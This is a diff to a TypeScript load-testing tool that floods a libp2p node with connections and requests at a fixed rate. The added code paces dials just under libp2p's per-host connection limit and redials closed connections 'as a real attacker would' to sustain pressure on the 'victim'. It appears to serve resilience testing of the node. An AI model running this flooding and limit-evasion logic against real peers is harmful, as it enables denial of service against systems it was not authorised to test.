@@ -32,12 +32,29 @@ async function main(opts: Options): Promise<void> {
   const deadline = () => Date.now() + opts.seconds * 1000;
   if (opts.mode === "hello") {
     const connections: Connection[] = [];
-    for (let i = 0; i < opts.connections; i++) connections.push(await dialNew(host, opts.target));
+    // At most 4 new connections a second: libp2p refuses a 6th from one host within a second.
+    while (connections.length < opts.connections) {
+      await dialNew(host, opts.target).then(
+        (c) => connections.push(c),
+        () => counts.dialFailures++,
+      );
+      await new Promise((r) => setTimeout(r, 250));
+    }
     print({ event: "ready" });
     const end = deadline();
     const start = Date.now();
     const inflight = new Set<Promise<void>>();
+    // The victim closes connections that never open a session: replace one every 250 ms, as a real attacker would.
+    let lastRedial = 0;
     while (Date.now() < end) {
+      const closed = connections.findIndex((c) => c.status !== "open");
+      if (closed >= 0 && Date.now() - lastRedial >= 250) {
+        lastRedial = Date.now();
+        void dialNew(host, opts.target).then(
+          (c) => (connections[closed] = c),
+          () => counts.dialFailures++,
+        );
+      }
       // Fixed rate: send what is due since the start, whatever the answers take.
       const due = Math.floor(((Date.now() - start) / 1000) * opts.rate) - counts.sent;
       for (let k = 0; k < due && inflight.size < 4 * opts.rate; k++) {
